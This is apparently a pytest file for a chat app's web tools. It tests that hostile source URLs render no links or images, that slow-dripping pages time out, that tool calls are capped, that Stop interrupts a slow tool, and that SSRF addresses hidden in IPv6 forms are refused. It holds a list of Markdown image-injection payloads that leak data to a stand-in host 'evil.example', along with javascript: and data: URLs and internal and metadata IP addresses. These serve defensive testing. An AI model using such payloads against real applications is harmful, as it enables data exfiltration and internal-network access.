"""A hostile web (issue 27, rows 9-11): source URLs that would break out of their link, a page for the fetch
tool that drips its headers, a model that asks for fifty calls at once, Stop during a slow tool, and fetch
targets that hide a private IPv4 address inside an IPv6 one.

The fetch tests run real slow servers on 127.0.0.1; the loop tests run the real SDK against the fake provider.
"""
import ipaddress
import json
import socket
import threading
import time
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from atri.messages import Message
from atri.safe_markdown import has_images
from atri.webfetch import FetchRefused, fetch_page, is_public
from atri.websearch import link_citations, searxng_hits, sources_in, sources_markdown

SPY = "https://evil.example/p.png?d=secret"
HOSTILE_URLS = [
    f"https://a.example/x\n![p]({SPY})",  # a newline ends the link; the image after it loads by itself
    f"https://a.example/x\r\n![p]({SPY})",
    f"https://a.example/x\u2028![p]({SPY})",
    f"https://a.example/x\t![p]({SPY})",
    f"https://a.example/x ![p]({SPY})",
    f"https://a.example/x\x00![p]({SPY})",
    f"https://a.example/x\\>)\n![p]({SPY})",  # a backslash escaping the link's closing bracket
    "javascript:alert(1)",
    f"data:text/html,<img src='{SPY}'>",
]
GOOD_URL = "https://b.example/page?q=1"


def links_and_images(markdown: str) -> tuple[list[str], bool]:
    """The hrefs of the links the Markdown draws, and whether it draws any image (as Streamlit reads it)."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    hrefs = [child.attrs["href"] for token in tokens for child in token.children or [] if child.type == "link_open"]
    return hrefs, has_images(markdown)


# --- row 9: source URLs ----------------------------------------------------------------------------------

@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_a_hostile_source_url_draws_no_image_and_no_link(url):
    listed = sources_markdown([{"index": 1, "title": "Trap", "url": url}, {"index": 2, "title": "Fine", "url": GOOD_URL}])
    hrefs, drawn_images = links_and_images(listed)
    assert not drawn_images and "evil.example" not in "".join(hrefs)
    assert hrefs == [GOOD_URL]  # the hostile one is left as its title, the good one stays a link
    assert "Trap" in listed and len(listed.splitlines()) == 2


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_a_citation_of_a_hostile_source_stays_plain(url):
    linked = link_citations("Fact [1] and [2].", [{"index": 1, "url": url}, {"index": 2, "url": GOOD_URL}])
    hrefs, drawn_images = links_and_images(linked)
    assert hrefs == [GOOD_URL] and not drawn_images and "Fact [1]" in linked


def test_the_provider_and_searxng_cannot_bring_a_hostile_url():
    chunk = {"output": {"search_info": {"search_results": [
        {"index": 1, "title": "Trap", "url": HOSTILE_URLS[0], "icon": HOSTILE_URLS[0]},
        {"index": 2, "title": "Fine", "url": GOOD_URL, "icon": f"https://b.example/i.png\n![p]({SPY})"}]}}}
    assert sources_in(chunk) == [{"index": 2, "title": "Fine", "url": GOOD_URL, "site_name": "", "icon": ""}]

    results = [{"title": "Trap", "url": HOSTILE_URLS[0]}, {"title": "Fine", "url": GOOD_URL}]

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            body = json.dumps({"results": results}).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        hits = searxng_hits(f"http://127.0.0.1:{server.server_address[1]}", "anything")
    finally:
        server.shutdown()
        server.server_close()
    assert [hit.url for hit in hits] == [GOOD_URL]


@pytest.mark.parametrize("stored", [False, True])
def test_an_imported_or_stored_hostile_source_loses_its_link_not_the_conversation(stored):
    facts = {"model": "m", "finish_reason": "stop", "sources": [
        {"index": 1, "title": "Trap", "url": HOSTILE_URLS[0], "icon": HOSTILE_URLS[0]},
        {"index": 2, "title": "Fine", "url": GOOD_URL}]}
    message = Message.from_dict({"role": "assistant", "content": "See [1] and [2].", "facts": facts}, stored=stored)
    trap, fine = message.facts.sources
    assert (trap["title"], trap["url"], trap["icon"]) == ("Trap", "", "") and fine["url"] == GOOD_URL


def draw_sources() -> None:
    import json

    import streamlit as st

    from atri.ui.steps import show_sources

    show_sources("en", json.loads(st.session_state["sources"]))


def test_the_sources_box_of_a_hostile_answer_draws_no_image():
    at = AppTest.from_function(draw_sources, default_timeout=30)
    at.session_state["sources"] = json.dumps([{"index": 1, "title": "Trap", "url": url} for url in HOSTILE_URLS])
    at.run()
    assert not at.exception, at.exception
    [listed] = [m.value for m in at.markdown]
    assert links_and_images(listed) == ([], False)


def test_a_web_image_url_with_a_newline_is_not_a_live_link():
    from tests.test_render_hostile import drawn, images

    question = Message("user", "look", images=[HOSTILE_URLS[0], GOOD_URL], id=1)
    at = drawn(question)
    assert images(at) == []
    hrefs = [href for m in at.markdown for href in links_and_images(m.value)[0]]
    assert not any(links_and_images(m.value)[1] for m in at.markdown) and hrefs == [GOOD_URL]


# --- row 10: a fetch that drips, fifty calls at once, Stop during a tool ------------------------------------

class DrippingServer:
    """A raw HTTP server on 127.0.0.1 whose `drip(connection)` writes the response as slowly as it likes."""

    def __init__(self, drip: Callable[[socket.socket], None]) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}/"
        self.stop = threading.Event()
        self.drip = drip
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection:
            connection.recv(65536)
            try:
                self.drip(connection)
            except OSError:
                pass

    def pause(self, seconds: float) -> None:
        self.stop.wait(seconds)

    def close(self) -> None:
        self.stop.set()
        self.listener.close()


def loopback(address) -> bool:
    return str(address) == "127.0.0.1"


def timed_fetch(server: DrippingServer, timeout_s: float) -> tuple[float, str]:
    started = time.monotonic()
    with pytest.raises(FetchRefused) as refused:
        fetch_page(server.url, allowed=loopback, timeout_s=timeout_s)
    return time.monotonic() - started, str(refused.value)


def test_a_page_that_sends_a_header_line_per_second_ends_at_the_deadline():
    def headers_forever(connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 200 OK\r\n")
        for line in range(30):
            server.pause(1.0)
            connection.sendall(b"X-Drip-%d: x\r\n" % line)

    server = DrippingServer(headers_forever)
    try:
        seconds, reason = timed_fetch(server, timeout_s=3.0)
    finally:
        server.close()
    assert seconds < 3.0 + 1.0 and "too long" in reason


def test_a_page_that_goes_silent_after_a_late_byte_ends_at_the_deadline():
    def late_then_silent(connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 100\r\n\r\n")
        server.pause(1.8)
        connection.sendall(b"x")
        server.pause(30)

    server = DrippingServer(late_then_silent)
    try:
        seconds, reason = timed_fetch(server, timeout_s=2.0)
    finally:
        server.close()
    assert seconds < 2.0 + 1.0 and "too long" in reason


def test_a_page_cut_short_by_the_deadline_is_not_returned_as_whole():
    def body_without_length(connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\nstart")
        server.pause(30)
        connection.sendall(b" and the rest")

    server = DrippingServer(body_without_length)
    try:
        seconds, reason = timed_fetch(server, timeout_s=1.5)
    finally:
        server.close()
    assert seconds < 1.5 + 1.0 and "too long" in reason


def test_a_model_asking_for_fifty_calls_in_one_round_gets_a_few_run(fake):
    from atri.tool_loop import MAX_CALLS_PER_ROUND, run_turn_with_tools
    from tests.test_tools import plan_for

    question = " ".join(f'[[calculator {{"expression": "{n}+1"}}]]' for n in range(50))
    conn, plan, box = plan_for(fake, question)
    turn = list(run_turn_with_tools(conn, plan, box))[-1]
    assert turn.error is None and turn.finish_reason == "stop"
    assert [step.result for step in turn.tool_steps] == [str(n + 1) for n in range(MAX_CALLS_PER_ROUND)]
    answers = [m["content"] for m in fake.streamed[-1]["messages"] if m["role"] == "tool"]
    assert len(answers) == 50 and answers[:MAX_CALLS_PER_ROUND] == [str(n + 1) for n in range(MAX_CALLS_PER_ROUND)]
    assert all(text.startswith("Error:") and str(MAX_CALLS_PER_ROUND) in text for text in answers[MAX_CALLS_PER_ROUND:])


def test_stop_ends_the_answer_while_a_slow_tool_is_still_running(fake, tmp_path):
    from atri.answers import Answerer, TurnSetup
    from atri.context import ContextSettings
    from atri.messages import ChatOptions
    from atri.providers import catalogue
    from atri.settings import Connection
    from atri.store import Store
    from atri.tokens import rough_count
    from atri.tools import Tool, Toolbox
    from tests.fake_provider import GOOD_KEY

    dashscope = catalogue()["dashscope"]
    released = threading.Event()
    slow = Tool("slow", "takes ten seconds", {"type": "object", "properties": {}},
                lambda arguments: "done" if released.wait(10) else "late")
    store = Store(f"sqlite:///{tmp_path / 'atri.db'}")
    answerer = Answerer(store)
    try:
        cid = store.create_conversation("alice", "slow")
        store.append("alice", cid, Message("user", "[[slow {}]]"))
        setup = TurnSetup(ChatOptions("dashscope", "qwen-plus", tools=["slow"]),
                          Connection(dashscope, fake.base_url, GOOD_KEY), dashscope.model("qwen-plus"),
                          rough_count, ContextSettings(), tools=Toolbox([slow]))
        live = answerer.start("alice", cid, setup)
        deadline = time.monotonic() + 20
        while not (live.turn and live.turn.calling == "slow") and time.monotonic() < deadline:
            time.sleep(0.02)
        assert live.turn.calling == "slow"
        stopped = time.monotonic()
        answerer.stop("alice", cid)
        assert live.done.wait(5)
        assert time.monotonic() - stopped < 1.0
        assert live.saver.saved.wait(5)
        assert store.messages("alice", cid)[-1].facts.error_kind == "stopped"
    finally:
        released.set()
        answerer.close()


# --- row 11: IPv4 inside IPv6 ---------------------------------------------------------------------------

@pytest.mark.parametrize("address", [
    "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "64:ff9b::a00:1",  # NAT64 of loopback, metadata, 10/8
    "64:ff9b:1:7f00:0:100::", "64:ff9b:1:a9fe:a9:fe00::",  # the local-use NAT64 prefix (/48)
    "2002:7f00:1::1", "2002:a9fe:a9fe::", "2002:c0a8:101::1",  # 6to4 of loopback, metadata, 192.168.1.1
    "::7f00:1", "::a9fe:a9fe", "::c0a8:101",  # IPv4-compatible
    "::ffff:0:7f00:1",  # IPv4-translated (SIIT)
    "fec0::1", "fec0:1:2::3",  # site-local
    "2001:0:4136:e378:8000:63bf:80ff:fffe", "2001:0:5ef5:79fd:0:0:5601:5601",  # Teredo (client 127.0.0.1, 169.254.169.254)
    # refused today, and still
    "127.0.0.1", "10.1.2.3", "169.254.169.254", "::1", "::", "::ffff:127.0.0.1", "fe80::1", "fc00::1", "ff02::1",
])
def test_an_ipv4_hidden_in_ipv6_is_judged_as_itself(address):
    assert not is_public(ipaddress.ip_address(address))


@pytest.mark.parametrize("address", ["8.8.8.8", "2606:4700:4700::1111", "64:ff9b::808:808", "2002:808:808::1"])
def test_public_addresses_stay_public(address):
    assert is_public(ipaddress.ip_address(address))


def test_a_nat64_address_of_loopback_is_refused_before_connecting():
    with pytest.raises(FetchRefused, match="refused"):
        fetch_page("http://[64:ff9b::7f00:1]:9/")
